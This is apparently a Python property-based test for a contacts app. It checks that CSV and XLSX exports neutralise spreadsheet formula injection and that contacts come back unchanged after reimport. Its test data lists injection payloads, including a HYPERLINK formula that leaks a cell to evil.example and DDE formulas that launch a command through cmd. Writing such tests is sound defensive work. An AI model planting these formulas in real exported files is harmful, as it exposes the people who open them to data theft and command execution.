"""Whatever contacts hold, an export of them runs nothing and comes back equal, on both engines."""

import csv
import re
import zipfile
from itertools import count
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from contacthub_tui.domain.bulk import Chosen
from contacthub_tui.domain.contact_query import ContactQuery
from contacthub_tui.domain.import_run import Existing, ImportOptions, RunState
from contacthub_tui.importer.run import run_import
from contacthub_tui.services import contacts, imports
from contacthub_tui.services.exports import export_contacts
from contacthub_tui.store.database import Store, transaction
from contacthub_tui.store.sql import execute
from tests.importer.in_process import write_csv

ADDRESS = re.compile(r"\+[0-9]{6,15}")
RUN = tuple("=+-@＝＋－＠\t\r\n")

attacks = st.sampled_from(
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        'DDE("cmd";"/C calc";"x")',
        "x;=1+1;y",
        "x\t=1+1",
        "x,@SUM(A1)",
        "two\n=1+1\nlines",
        "{=1+1}",
        "'=1+1",
        "''=1+1",
        "'",
        "''",
        "'quoted'",
        '"=1+1"',
        '"',
        "0012",
        "1e5",
        "00:01",
        "_x0041_",
        "&amp;<b>",
        "[/]",
        "\x1b]0;x\x07",
        "\ufeff=1",
        "sep=;",
    ]
)
signs = st.text(alphabet="=+-@＝＋－＠'\";,\t\r\n|(! a1", max_size=8)
texts = attacks | signs | st.builds("{}{}".format, signs, attacks) | st.text(max_size=20)
people = st.lists(st.tuples(texts, texts, texts, texts, texts), min_size=1, max_size=25)

COLUMNS = ["Mobile", "First name", "Last name", "Alias", "Note", "=Custom"]


def bring_in(path: Path, **options: object) -> None:
    """Import a file to its end, with what it holds put over what is there."""
    wanted = ImportOptions(existing=Existing.OVERWRITE, **options)  # type: ignore[arg-type]
    assert run_import(imports.create_run(path, wanted, "marie")).state is RunState.FINISHED


def held() -> list[tuple[object, ...]]:
    """What the contacts hold, by their numbers."""
    found = contacts.contact_page(ContactQuery(), 0, 1_000)
    return sorted(
        (
            contact.mobile,
            contact.first_name,
            contact.last_name,
            contact.alias,
            contact.note,
            contact.lists,
            tuple(contact.custom.items()),
        )
        for contact in found
    )


def cells_of_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def assert_runs_nothing(path: Path) -> None:
    """No cell is one that a spreadsheet would run."""
    if path.suffix == ".csv":
        run = [cell for cell in cells_of_csv(path) if cell.startswith(RUN)]
        assert all(ADDRESS.fullmatch(cell) for cell in run)
        return
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert not [name for name in names if "externalLink" in name or "connections" in name]
    assert "<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet
    kinds = set(re.findall(r"<c [^>]*?(t=\"\w+\")?/?>", sheet))
    assert kinds <= {'t="s"', 't="inlineStr"'}


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_any_contacts_come_back_equal_from_an_export_that_runs_nothing(
    store: Store, tmp_path: Path, kind: str
) -> None:
    numbers = count(1)

    @settings(
        max_examples=6, deadline=None, derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )  # fmt: skip
    @given(people)
    def comes_back(rows: list[tuple[str, ...]]) -> None:
        with transaction():
            execute("DELETE FROM contact")
        table = [[f"+336{next(numbers):08d}", *row] for row in rows]
        file = tmp_path / "in.csv"
        try:
            write_csv(file, [COLUMNS, *table])
        except UnicodeEncodeError:
            return  # a lone surrogate is no text that a file holds
        bring_in(file, mapping=(("=Custom", "+=Custom"),), new_lists=("=VIP", "+x|y!", "@"))
        before = held()
        out = tmp_path / f"out.{kind}"
        assert export_contacts(Chosen(), out) == len(before) == len(rows)
        assert_runs_nothing(out)
        bring_in(out)
        assert held() == before
        with transaction():
            execute("DELETE FROM contact")
        bring_in(out)
        assert held() == before

    comes_back()
